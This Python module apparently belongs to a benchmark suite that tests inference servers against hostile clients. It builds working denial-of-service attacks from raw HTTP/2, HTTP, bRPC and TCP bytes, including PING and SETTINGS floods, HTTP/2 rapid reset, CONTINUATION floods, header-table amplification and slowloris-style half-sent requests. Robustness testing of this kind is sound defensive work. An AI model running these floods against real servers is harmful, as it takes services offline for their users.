"""Connections that send many small pieces, or begin what they never end."""

from __future__ import annotations

import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from functools import partial

from benchmarks.cases import MODEL, OIP_METHOD, http_request
from benchmarks.hostile.attack import Attack, Run, Target

_BLOCK_BYTES = 1 << 16
"""How much is sent with one system call, approximately."""

_MANY = 64
"""How many connections flood at once where one is not enough."""

_RECONNECT_SECS = 0.5
"""After how long a client whose connection was closed comes back."""

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = (
    *range(5),
    *(6, 8, 9),
)
_ACK = _END_STREAM = 0x1
_END_HEADERS = 0x4
_INITIAL_WINDOW_SIZE = 4
_STREAM_METHOD = OIP_METHOD.replace("ModelInfer", "ModelStreamInfer")
_CALLS = 1000
"""How many streams an attack opens on one connection."""


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def _block(method: str) -> bytes:
    """The field block of a gRPC call, without references to a table."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": method,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(
        b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()
        for name, value in fields.items()
    )


def _head(stream: int, method: str = OIP_METHOD, flags: int = _END_HEADERS) -> bytes:
    return _frame(_HEADERS, flags, stream, _block(method))


def _settings(*pairs: tuple[int, int]) -> bytes:
    return _frame(_SETTINGS, 0, 0, b"".join(struct.pack(">HL", *pair) for pair in pairs))


_START = _PREFACE + _settings()
_PREFIX = struct.pack(">BL", 0, 1 << 20)
"""Of a gRPC message of 1 MiB."""


def _repeated(piece: bytes) -> bytes:
    return piece * max(1, _BLOCK_BYTES // len(piece))


def _flooding(first: bytes, piece: bytes, connections: int = 1, *, reads: bool = True) -> Run:
    """Sends ``first``, then ``piece`` over and over, on each of ``connections``. ``reads``: it reads what
    the server sends, and forgets it."""
    block = _repeated(piece)

    def run(target: Target) -> int:
        with ExitStack() as closing:
            flooders = [
                closing.enter_context(_Flooder(target, first, lambda _: block, reads))
                for _ in range(connections)
            ]
            _drive(target, flooders)
        return 0

    return run


def _streams(first: bytes, piece: Callable[[int], bytes]) -> Run:
    """Sends ``piece`` for one stream after the other."""

    def run(target: Target) -> int:
        def block(number: int) -> bytes:
            begin = 1 + 2 * 100 * number
            return b"".join(piece(stream) for stream in range(begin, begin + 200, 2))

        with _Flooder(target, first, block, True) as flooder:
            _drive(target, [flooder])
        return 0

    return run


class _Flooder:
    """A client that connects again whenever it is disconnected. ``block`` makes the bytes to send, by how
    many have been made on this connection."""

    def __init__(self, target: Target, first: bytes, block: Callable[[int], bytes], reads: bool) -> None:
        self._target = target
        self._first = first
        self._block = block
        self._reads = reads
        self._sock: socket.socket | None = None
        self._left = memoryview(b"")
        self._made = 0
        self._connect_at = 0.0

    def __enter__(self) -> _Flooder:
        return self

    def __exit__(self, *error: object) -> None:
        if self._sock is not None:
            self._sock.close()

    def go_on(self) -> bool:
        """Send what the socket takes. Returns whether it took anything."""
        try:
            sock = self._connected()
            if sock is None:
                return False
            if self._reads:
                with suppress(BlockingIOError):
                    if not sock.recv(1 << 18):
                        raise ConnectionResetError
            if not self._left:
                self._left = memoryview(self._block(self._made))
                self._made += 1
            self._left = self._left[sock.send(self._left) :]
        except BlockingIOError:
            return False
        except OSError:
            assert self._sock is not None
            self._sock.close()
            self._sock = None
            self._connect_at = time.monotonic() + _RECONNECT_SECS
            return False
        return True

    def _connected(self) -> socket.socket | None:
        if self._sock is None and time.monotonic() >= self._connect_at:
            self._sock = self._target.connect()
            self._sock.sendall(self._first)
            self._sock.setblocking(False)
            self._left, self._made = memoryview(b""), 0
        return self._sock


def _drive(target: Target, flooders: list[_Flooder]) -> None:
    while target.going:
        sent = [flooder.go_on() for flooder in flooders]
        if not any(sent):
            time.sleep(0.001)


def _held(first: bytes, connections: int = 200) -> Run:
    """Sends ``first`` on many connections, and no more."""

    def run(target: Target) -> int:
        with ExitStack() as closing:
            for _ in range(connections):
                closing.enter_context(target.connect()).sendall(first)
            while target.going:
                time.sleep(0.05)
        return 0

    return run


def _unread(first: bytes, piece: bytes) -> Run:
    """Sends requests and reads no answer."""
    return _flooding(first, piece, 8, reads=False)


def _http_head(length: str) -> bytes:
    request = http_request(f"/v2/models/{MODEL}/infer", {}, b"")
    return request.replace(b"Content-Length: 0", length.encode())


_CHUNKED = _http_head("Transfer-Encoding: chunked")
_HTTP_REQUEST = http_request("/v2", {}, b"").replace(b"POST", b"GET", 1)


def _fields_of_indices() -> bytes:
    """A field block of 15,000 references to one field of the dynamic table."""
    field = b"\x40\x01x\x08" + b"y" * 8
    return field + b"\xbe" * 15_000


def _one_stream(method: str = OIP_METHOD) -> bytes:
    return _START + _head(1, method)


def _resets(stream: int) -> bytes:
    return _head(stream) + _frame(_RST_STREAM, 0, stream, bytes((0, 0, 0, 8)))


def _many(
    name: str, transport: str, first: bytes, piece: bytes, *, generic: bool = False
) -> Iterator[Attack]:
    """The same flood over one connection and over many."""
    yield Attack(name, transport, _flooding(first, piece), generic)
    yield Attack(f"{name}, {_MANY} connections", transport, _flooding(first, piece, _MANY), generic)


_PING_FRAME = _frame(_PING, 0, 0, bytes(8))
_WINDOWS = _frame(_WINDOW_UPDATE, 0, 0, struct.pack(">L", 1))
_TINY_WINDOW = _PREFACE + _settings((_INITIAL_WINDOW_SIZE, 1))

ATTACKS = (
    *_many("chunks of 1 byte", "http", _CHUNKED, b"1\r\nx\r\n"),
    *_many("WINDOW_UPDATE", "grpc", _START, _WINDOWS, generic=True),
    *_many("PING", "grpc", _START, _PING_FRAME, generic=True),
    Attack("PING, answers unread", "grpc", _unread(_START, _PING_FRAME), generic=True),
    Attack("PING ACK", "grpc", _flooding(_START, _frame(_PING, _ACK, 0, bytes(8))), generic=True),
    Attack("SETTINGS", "grpc", _flooding(_START, _settings()), generic=True),
    Attack("SETTINGS ACK", "grpc", _flooding(_START, _frame(_SETTINGS, _ACK, 0)), generic=True),
    Attack("PRIORITY", "grpc", _flooding(_START, _frame(_PRIORITY, 0, 1, bytes(5))), generic=True),
    *_many("DATA of 1 byte", "grpc", _one_stream() + _frame(_DATA, 0, 1, _PREFIX), _frame(_DATA, 0, 1, b"x")),
    Attack("empty DATA", "grpc", _flooding(_one_stream(), _frame(_DATA, 0, 1)), generic=True),
    *_many("empty gRPC messages", "grpc", _one_stream(_STREAM_METHOD), _frame(_DATA, 0, 1, bytes(5))),
    Attack(
        "empty gRPC messages in large frames",
        "grpc",
        _flooding(_one_stream(_STREAM_METHOD), _frame(_DATA, 0, 1, bytes(16_000))),
    ),
    Attack("rapid reset", "grpc", _streams(_START, _resets), generic=True),
    Attack("refused heads", "grpc", _streams(_START, partial(_head, method="/nothing"))),
    Attack(
        "heads of 15,000 fields",
        "grpc",
        _streams(_START, lambda stream: _frame(_HEADERS, _END_HEADERS, stream, _fields_of_indices())),
    ),
    Attack(
        "CONTINUATION",
        "grpc",
        _flooding(_START + _head(1, flags=0), _frame(_CONTINUATION, 0, 1)),
        generic=True,
    ),
    Attack(
        "half a request, gRPC",
        "grpc",
        _held(_one_stream() + _frame(_DATA, 0, 1, _PREFIX + bytes(1000))),
        generic=True,
    ),
    Attack("half a preface", "grpc", _held(_PREFACE[:10]), generic=True),
    Attack("half a head, HTTP", "http", _held(_CHUNKED[:-4])),
    Attack("half a frame, bRPC", "brpc", _held(b"PRPC" + struct.pack(">II", 1 << 20, 10) + bytes(100))),
    Attack("half a message, TCP", "tcp", _held(struct.pack("<I", 1 << 20) + bytes(100))),
    Attack("answers unread, HTTP", "http", _unread(b"", _HTTP_REQUEST)),
    Attack(
        "empty frames, bRPC",
        "brpc",
        _flooding(b"", b"PRPC" + struct.pack(">II", 0, 1)),
    ),
    Attack("messages of 1 byte, TCP", "tcp", _flooding(b"", b"\1\0\0\0x")),
)
